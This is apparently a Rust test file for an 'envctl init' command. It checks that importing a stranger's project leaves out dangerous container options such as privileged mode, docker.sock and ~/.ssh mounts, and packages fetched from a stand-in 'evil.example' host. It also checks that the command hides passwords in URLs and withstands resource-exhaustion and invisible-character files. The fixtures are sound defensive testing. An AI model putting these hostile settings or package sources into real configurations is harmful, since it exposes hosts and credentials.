//! `init` in a directory of a stranger: what it does not take, show, read or wait for.

use std::fs;
use std::os::unix::fs::symlink;
use std::process::Command;

use serde_json::Value;

use super::init::{drafted, envctl, left, project};

/// What a container file of a stranger asks for, and the grant that it needs.
const REACHING_OUT: [(&str, &str); 14] = [
    ("--privileged", "privileged"),
    ("--network=host", "host-network"),
    ("--network=other", "network"),
    ("--ipc=host", "host-ipc"),
    ("--cap-add=SYS_ADMIN", "capabilities"),
    ("--device=/dev/null", "devices"),
    ("-v=/:/host", "engine-socket"),
    ("-v=/var/run/docker.sock:/var/run/docker.sock", "engine-socket"),
    ("-v=~/.ssh:/x", "mounts"),
    ("-v=..:/y", "mounts"),
    ("-v=./link:/z", "mounts"),
    ("-v=cache:/c", "volumes"),
    ("--env-file=/etc/environment", "env-file"),
    ("-p=0.0.0.0:9:9", "ports-beyond-loopback"),
];

#[test]
fn what_needs_consent_is_left_out_and_listed_apart() {
    let arguments = REACHING_OUT.map(|(argument, _)| format!("{argument:?}")).join(", ");
    let container = format!("{{\"runArgs\": [{arguments}, \"--shm-size=8g\", \"--env-file=.env\"]}}");
    let setup = "setup(install_requires=['torch>=2', 'rich', 'x @ https://evil.example/x-1-py3-none-any.whl'])\n";
    let dockerfile = "FROM ubuntu:22.04\nRUN pip install 'y @ https://evil.example/y-1-py3-none-any.whl'\n";
    let files = [(".devcontainer/devcontainer.json", &*container), ("setup.py", setup), ("Dockerfile", dockerfile)];
    let files: Vec<_> = files.iter().copied().chain([(".env", "AWS_SECRET_ACCESS_KEY\n")]).collect();
    let project = project(&files);
    symlink("/etc", project.path().join("link")).unwrap();
    let output = envctl(project.path(), &["init", "--name", "lab", "--json"]);
    let document: Value = serde_json::from_slice(&output.stdout).unwrap();
    let text = document["text"].as_str().unwrap();
    let manifest: toml::Table = text.parse().unwrap();
    assert_eq!(manifest["run"].as_table().unwrap().keys().collect::<Vec<_>>(), ["shm-size"], "{text}");
    assert_eq!(manifest["python"]["packages"].as_array().unwrap().len(), 1, "{text}");
    let left = document["left"].as_array().unwrap();
    let mut grants: Vec<&str> = left.iter().filter_map(|one| one["grant"].as_str()).collect();
    let mut expected: Vec<&str> = REACHING_OUT.iter().map(|(_, grant)| *grant).collect();
    expected.extend(["package-urls", "package-urls", "variables"]);
    grants.sort_unstable();
    expected.sort_unstable();
    assert_eq!(grants, expected, "{document:#}");
    let (apart, others) = text.split_once("# Left out, because only you decide about it:").unwrap();
    assert!(others.contains("it needs consent to `host-network`") && !apart.contains("evil.example"), "{text}");
}

#[test]
fn what_the_caller_gives_himself_is_taken() {
    let run = "docker run --ipc=host -v /data:/data -p 0.0.0.0:9:9 pytorch/pytorch:2.4.0-cuda12.1-cudnn9-runtime";
    let (lines, _) = drafted(&[], &["--from-docker", run]);
    for expected in ["ipc = \"host\"", "    \"/data:/data\",", "    \"0.0.0.0:9:9\","] {
        assert!(lines.contains(&expected.to_owned()), "{expected}: {lines:?}");
    }
}

#[test]
fn no_password_of_a_file_is_shown_or_written() {
    let address = "https://ada:SECRETPW@index.example/simple";
    let files = [
        (
            "Pipfile",
            format!(
                "[[source]]\nurl = \"https://a.example\"\n[[source]]\nurl = \"{address}\"\n[packages]\ntorch = \"*\"\nx = {{ git = \"{address}\" }}\n"
            ),
        ),
        (
            "setup.py",
            format!(
                "setup(install_requires=['torch', 'foo @ {address}/f.whl'], extras_require={{'a': ['b @ {address}']}})\n"
            ),
        ),
        (
            "cog.yaml",
            format!("build:\n  python_packages:\n    - torch\n    - x @ {address}\n  run:\n    - curl {address}\n"),
        ),
        (
            "Dockerfile",
            format!(
                "FROM ubuntu:22.04\nENV INDEX={address}\nRUN pip install torch foo@{address} --extra-index-url {address} -r {address} && curl {address}\nCMD curl {address}\n"
            ),
        ),
        (
            ".devcontainer.json",
            format!(
                "{{\"image\": \"{address}\", \"containerEnv\": {{\"A\": \"{address}\"}}, \"runArgs\": [\"--label\", \"{address}\"], \"{address}\": 1}}"
            ),
        ),
        ("environment.yml", format!("dependencies:\n  - pytorch\n  - pip:\n    - x @ {address}\n")),
        (
            "pyproject.toml",
            format!(
                "[project]\nname = \"x\"\ndependencies = [\"torch\", \"x @ {address}\"]\n[project.optional-dependencies]\na = [\"{address}\"]\n"
            ),
        ),
        ("requirements.txt", format!("torch\n-r {address}\n--extra-index-url {address}\nx @ {address}\n")),
    ];
    for (name, text) in &files {
        let project = project(&[(name, text)]);
        for arguments in [&["init", "--dry-run"][..], &["init", "--dry-run", "--json"], &["init"]] {
            let output = envctl(project.path(), &[arguments, &["--name", "lab", "--framework", "pytorch"]].concat());
            let said =
                format!("{}{}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
            assert!(output.status.code() == Some(0) && !said.contains("SECRETPW"), "{name}: {said}");
        }
        let text = fs::read_to_string(project.path().join("envctl.toml")).unwrap();
        assert!(!text.contains("SECRETPW") && !text.contains("ada"), "{text}");
    }
    let run = format!("docker run -e INDEX={address} pytorch/pytorch:2.4.0-cuda12.1-cudnn9-runtime curl {address}");
    let (lines, document) = drafted(&[], &["--from-docker", &run]);
    assert!(!lines.iter().any(|line| line.contains("INDEX")) && !document.to_string().contains("SECRETPW"));
}

#[test]
fn a_manifest_that_comes_while_init_asks_stays() {
    use std::io::{Read as _, Write as _};
    let project = project(&[("requirements.txt", "torch\n")]);
    let path = project.path().join("envctl.toml");
    let mut terminal = Command::new("script")
        .args(["-qec", &format!("{} init", env!("CARGO_BIN_EXE_envctl")), "/dev/null"])
        .env("HOME", project.path())
        .current_dir(project.path())
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let (mut answers, mut screen) = (terminal.stdin.take().unwrap(), terminal.stdout.take().unwrap());
    let mut said = Vec::new();
    let mut byte = [0];
    while !String::from_utf8_lossy(&said).contains("Name of") && screen.read(&mut byte).unwrap() == 1 {
        said.push(byte[0]);
    }
    fs::write(&path, "mine\n").unwrap();
    answers.write_all(b"\n\n\n").unwrap();
    screen.read_to_end(&mut said).unwrap();
    assert_eq!(terminal.wait().unwrap().code(), Some(2), "{}", String::from_utf8_lossy(&said));
    assert_eq!(fs::read_to_string(&path).unwrap(), "mine\n", "{}", String::from_utf8_lossy(&said));
}

/// Files that made `init` use memory or time without end, each with what is left out of it. The sizes are such that a
/// reader that looks at a text again for each of its values would not end in minutes.
fn hostile_files() -> Vec<(&'static str, String, &'static str)> {
    let doubled = (1..40).map(|at| format!("ARG v{at}=$v{}$v{}\n", at - 1, at - 1)).collect::<Vec<String>>().concat();
    let numbered = |count: usize, one: &dyn Fn(usize) -> String| (0..count).map(one).collect::<String>();
    vec![
        ("Dockerfile", format!("ARG v0=aaaaaaaaaa\n{doubled}FROM $v39\n"), "ARG v7"),
        ("Dockerfile", numbered(6_000, &|at| format!("ENV A{at}=1\n")), "[run] env: A2500"),
        ("Dockerfile", format!("RUN {}make\n", "A=b ".repeat(15_000)).repeat(16), "A=b A=b"),
        ("Dockerfile", format!("RUN pip install {}\n", "'".repeat(99)), "pip install '"),
        ("Dockerfile", format!("CMD {}\n", "://a:b/".repeat(140_000)), "CMD ://"),
        (
            ".devcontainer.json",
            format!("{{\"runArgs\": [\"-w/{}\", {}\"-d\"]}}", "x".repeat(500_000), "\"-w/y\",".repeat(20_000)),
            "workdir",
        ),
        ("setup.py", format!("x(install_requires=[{}])", numbered(3_000, &|at| format!("'p{at}',\n"))), "p1000"),
        ("setup.py", "install_requires=a\n".repeat(20_000) + &"a=b\n".repeat(20_000), "install_requires"),
        ("setup.py", format!("install_requires=[{}", "\"a\",\n".repeat(150_000)), "install_requires"),
        (
            "setup.cfg",
            format!("[options]\ninstall_requires =\n{}", numbered(3_000, &|at| format!("  p{at}\n"))),
            "p1000",
        ),
        (
            ".devcontainer.json",
            format!("{{{}\"z\": 1}}", numbered(60_000, &|at| format!("\"k{at}\": 1,"))),
            ".devcontainer.json",
        ),
        (".devcontainer.json", format!("{{\"runArgs\": [{}\"-d\"]}}", "\"--network=x\",".repeat(5_000)), "network"),
        ("Pipfile", format!("[packages]\n{}", numbered(20_000, &|at| format!("p{at} = \"*\"\n"))), "packages: \"p1"),
        (
            "pyproject.toml",
            format!("[tool.poetry]\n{}", numbered(10_000, &|at| format!("[tool.poetry.group.g{at}]\n"))),
            "groups g0",
        ),
        (
            "cog.yaml",
            format!("build:\n  python_packages:\n{}", numbered(5_000, &|at| format!("    - p{at}\n"))),
            "p2500",
        ),
    ]
}

#[test]
fn a_hostile_file_is_answered() {
    for (name, text, expected) in hostile_files() {
        let project = project(&[(name, &text)]);
        let output = envctl(project.path(), &["init", "--dry-run", "--json", "--name", "lab", "--framework", "jax"]);
        let said = String::from_utf8_lossy(&output.stderr);
        assert_eq!(output.status.code(), Some(0), "{name}: {said}");
        let document: Value = serde_json::from_slice(&output.stdout).unwrap();
        let left = document["left"].as_array().unwrap();
        assert!(left.len() <= 1_000, "{name}");
        let is_named = left.iter().any(|one| one["what"].as_str().unwrap().contains(expected));
        assert!(is_named, "{name}: {expected} is not in {:?}", left.iter().take(5).collect::<Vec<_>>());
    }
}

/// The requirements file itself is read again by `lock`, with the lines that the draft has no room for.
#[test]
fn endless_lines_of_a_framework_are_answered() {
    let lines =
        (0..20_000).map(|at| format!("torch>={at}\n-f https://a.example/{at}\n")).collect::<Vec<String>>().concat();
    let project = project(&[("requirements.txt", &lines)]);
    let output = envctl(project.path(), &["init", "--dry-run", "--json", "--name", "lab"]);
    assert_eq!(output.status.code(), Some(0), "{}", String::from_utf8_lossy(&output.stderr));
    let document: Value = serde_json::from_slice(&output.stdout).unwrap();
    let text = document["text"].as_str().unwrap();
    assert!(text.contains("pytorch = \">=0,>=1,") && text.len() < 10_000, "{text}");
    assert!(text.contains("requirements = [\"requirements.txt\"]"), "{text}");
}

#[test]
fn large_indexes_of_packs_are_not_read_whole() {
    let project = project(&[("requirements.txt", "torch==2.1.0\n"), (".git/HEAD", &"ab".repeat(20))]);
    let packs = project.path().join(".git/objects/pack");
    fs::create_dir_all(&packs).unwrap();
    for number in 0..64 {
        let index = fs::File::create(packs.join(format!("pack-{number}.idx"))).unwrap();
        std::os::unix::fs::FileExt::write_all_at(&index, &[0xff, b't', b'O', b'c', 0, 0, 0, 2], 0).unwrap();
        index.set_len(1 << 40).unwrap();
    }
    let output = envctl(project.path(), &["init", "--name", "lab"]);
    assert_eq!(output.status.code(), Some(0), "{}", String::from_utf8_lossy(&output.stderr));
    assert!(!fs::read_to_string(project.path().join("envctl.toml")).unwrap().contains("exclude-newer"));
}

#[test]
fn what_cannot_be_seen_is_written_as_an_escape() {
    let name = "a\u{202e}txt.requirements.txt";
    let project = project(&[(name, "torch\n"), ("Dockerfile", "FROM ubuntu:22.04\nENV A=x\u{200b}'y\n")]);
    for arguments in [&["init", "--name", "lab", "--dry-run"][..], &["init", "--name", "lab"]] {
        let output = envctl(project.path(), arguments);
        let said = String::from_utf8_lossy(&output.stdout).into_owned() + &String::from_utf8_lossy(&output.stderr);
        assert!(output.status.code() == Some(0) && !said.contains(['\u{202e}', '\u{200b}']), "{said}");
        assert!(!said.contains("u{5c}"), "{said}");
    }
    let text = fs::read_to_string(project.path().join("envctl.toml")).unwrap();
    assert!(!text.contains(['\u{202e}', '\u{200b}']), "{text}");
    let manifest: toml::Table = text.parse().unwrap();
    assert_eq!(manifest["python"]["requirements"][0].as_str(), Some(name), "{text}");
}

#[test]
fn files_are_read_in_every_common_encoding() {
    let requirements: Vec<u8> =
        [0xff, 0xfe].into_iter().chain("torch==2.1.0\r\n".encode_utf16().flat_map(u16::to_le_bytes)).collect();
    let project = project(&[("Dockerfile", "\u{feff}FROM ubuntu:22.04\nRUN pip install rich\n")]);
    fs::write(project.path().join("requirements.txt"), requirements).unwrap();
    let output = envctl(project.path(), &["init", "--name", "lab"]);
    assert_eq!(output.status.code(), Some(0), "{}", String::from_utf8_lossy(&output.stderr));
    let text = fs::read_to_string(project.path().join("envctl.toml")).unwrap();
    for expected in ["pytorch = \"2.1.0\"  # requirements.txt:1", "base = \"ubuntu:22.04\"  # Dockerfile:1"] {
        assert!(text.contains(expected), "{text}");
    }
}

#[test]
fn a_file_that_is_not_in_the_project_is_not_referred_to() {
    let dockerfile =
        "FROM ubuntu:22.04\nRUN pip install -r https://a.example/r.txt -r /tmp/r.txt -r absent.txt torch\n";
    let cog = "build:\n  python_requirements: https://a.example/r.txt\n";
    let (lines, document) = drafted(&[("Dockerfile", dockerfile), ("cog.yaml", cog)], &["--framework", "pytorch"]);
    assert!(!lines.iter().any(|line| line.contains("requirements")), "{lines:?}");
    let left = left(&document);
    for expected in ["https://a.example/r.txt (Dockerfile:2)", "/tmp/r.txt (/tmp/r.txt)", "absent.txt (absent.txt)"] {
        assert!(left.contains(&expected.to_owned()), "{expected}: {left:?}");
    }
    for line in ["-r https://a.example/r.txt", "-c http://a.example/c.txt"] {
        let project = project(&[("requirements.txt", &format!("torch\n{line}\n"))]);
        let output = envctl(project.path(), &["init", "--name", "lab"]);
        let said = String::from_utf8_lossy(&output.stderr).into_owned();
        assert_eq!(output.status.code(), Some(0), "{said}");
        assert!(said.contains("a file at an address is not read"), "{said}");
    }
}
